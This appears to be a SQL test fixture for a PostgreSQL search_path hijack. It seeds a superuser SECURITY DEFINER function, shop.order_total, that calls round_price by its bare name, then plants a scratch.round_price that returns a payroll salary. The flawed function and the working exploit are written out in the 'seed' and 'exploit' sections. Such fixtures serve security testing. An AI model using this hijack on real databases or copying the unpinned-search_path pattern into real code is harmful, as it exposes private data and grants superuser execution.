-- about: a superuser's SECURITY DEFINER function calls another by its bare name and pins no search_path
-- note: whoever may create in any schema puts a function of that name first, and it runs as superuser
-- claim: hijack-function EXECUTE shop.order_total(integer)
-- seed
CREATE SCHEMA scratch;
GRANT USAGE, CREATE ON SCHEMA scratch TO PREFIXbot;
CREATE FUNCTION shop.round_price(price numeric) RETURNS numeric LANGUAGE sql IMMUTABLE
AS 'SELECT pg_catalog.round(price, 1)';
CREATE FUNCTION shop.order_total(order_id integer) RETURNS numeric LANGUAGE plpgsql SECURITY DEFINER
AS $$ BEGIN RETURN round_price((SELECT o.total FROM shop.orders AS o WHERE o.id = order_id)); END $$;
REVOKE EXECUTE ON FUNCTION shop.order_total(integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION shop.order_total(integer) TO PREFIXbot, PREFIXclerk;
-- exploit
CREATE FUNCTION scratch.round_price(price numeric) RETURNS numeric LANGUAGE plpgsql
AS $$ BEGIN RETURN (SELECT p.salary FROM hr.payroll AS p WHERE p.person = 'Ada'); END $$;
SET LOCAL search_path = scratch, shop;
SELECT shop.order_total(1) = 9000;
-- people
SET search_path = shop;
SELECT shop.order_total(10);
